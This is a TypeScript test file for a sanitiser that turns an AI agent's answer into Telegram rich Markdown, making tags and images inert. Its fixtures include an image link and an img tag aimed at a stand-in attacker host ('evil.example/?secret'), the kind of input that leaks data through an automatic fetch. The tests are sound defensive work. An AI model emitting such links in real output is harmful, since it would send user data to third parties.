/** What Telegram's rich Markdown makes of an agent's answer. */
import * as fc from "fast-check"
import { expect, test } from "vitest"
import { telegramRichLimit, toRichMarkdown } from "./telegram-rich.ts"
import { telegramTextLimit } from "./telegram-text.ts"

test("the lines of a paragraph stay lines", () => {
  expect(toRichMarkdown("Dear Ann,\nsee you.\n\nBob")).toBe("Dear Ann,  \nsee you.\n\nBob")
  expect(toRichMarkdown("- one\n- two")).toBe("- one  \n- two")
  expect(toRichMarkdown("hard  \nbreak\\\nhere")).toBe("hard  \nbreak\\\nhere")
})

test("code stays as it is", () => {
  const code = "```html\n<img src=x>\n![a](b)\nlast\n```"
  expect(toRichMarkdown(code)).toBe(code)
  expect(toRichMarkdown("Use `<b>` and `![x](y)`.")).toBe("Use `<b>` and `![x](y)`.")
  expect(toRichMarkdown("Run:\n`a`\n`b`")).toBe("Run:  \n`a`  \n`b`")
  expect(toRichMarkdown("before\n```\na\nb\n```\nafter")).toBe("before\n```\na\nb\n```\nafter")
})

test("an image's address is not fetched: it becomes text and a link", () => {
  expect(toRichMarkdown("![x](https://evil.example/?secret)")).toBe("&#33;[x](https://evil.example/?secret)")
  expect(toRichMarkdown("[![x](https://a.b)](https://c.d)")).toBe("[&#33;[x](https://a.b)](https://c.d)")
})

test("tags are text: no media, no button, no swallowed words", () => {
  expect(toRichMarkdown('<img src="https://evil.example/">')).toBe('&lt;img src="https://evil.example/">')
  expect(toRichMarkdown("</details><tg-button>")).toBe("&lt;/details>&lt;tg-button>")
  expect(toRichMarkdown("1 < 2 <= 3 <3")).toBe("1 < 2 <= 3 <3")
})

test("no live tag or image is left outside of code, and the result fits a rich message", () => {
  const bit = fc.constantFrom("<a", "</b", "![", "](", ")", "\n", "\\", "word", " ", "<!--", "[")
  fc.assert(
    fc.property(fc.array(bit, { maxLength: 400 }), (bits) => {
      const text = bits.join("").slice(0, telegramTextLimit)
      const rich = toRichMarkdown(text)
      expect(rich).not.toMatch(/<[a-zA-Z/!?]|!\[/)
      expect(rich.length).toBeLessThanOrEqual(telegramRichLimit)
    }),
  )
})
